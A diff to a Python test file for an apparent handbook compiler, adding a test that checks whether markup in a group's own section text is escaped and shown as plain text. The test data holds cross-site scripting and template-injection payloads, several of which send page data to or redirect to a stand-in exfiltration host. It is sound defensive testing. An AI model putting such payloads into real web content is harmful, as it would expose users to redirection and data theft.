@@ -127,6 +127,21 @@ def test_a_group_adds_and_replaces_in_short_points_and_adds_its_own_paragraph(tm
     assert "my-sections/police.yml" in compiled.warnings[0]
 
 
+MARKUP = ['<script>location = "https://exfil.invalid/?" + document.title</script>',
+          '<meta http-equiv="refresh" content="0; url=https://exfil.invalid/">', '[x](#top){ onclick="alert(1)" }',
+          '{{ group.__class__ }} <img src="https://exfil.invalid/p.gif">']
+
+
+def test_markup_in_a_groups_own_words_for_a_section_is_shown_as_text(tmp_path):
+    group_file = write_group(tmp_path / "g")
+    section(tmp_path / "g", "police", {"points": MARKUP, "paragraph": "\n\n".join(MARKUP)})
+    police = (compile_handbook(group_file, tmp_path / "out").docs / "policy" / "police.md").read_text()
+    for written in MARKUP:
+        assert written not in police
+    assert not re.search(r"<(?:script|meta|img)|\{\s*onclick|\{\{", police.split("## At ")[1])
+    assert police.count("&#60;script&#62;location") == 2  # once a point, once the paragraph
+
+
 @pytest.mark.parametrize("name, content, message", [
     ("polce", {"points": ["x"]}, "my-sections/polce.yml: there is no section called 'polce'. Name the file after one"),
     ("police", {"in_short": "swap"}, "my-sections/police.yml, line 1: in_short: expected 'add' or 'replace'"),
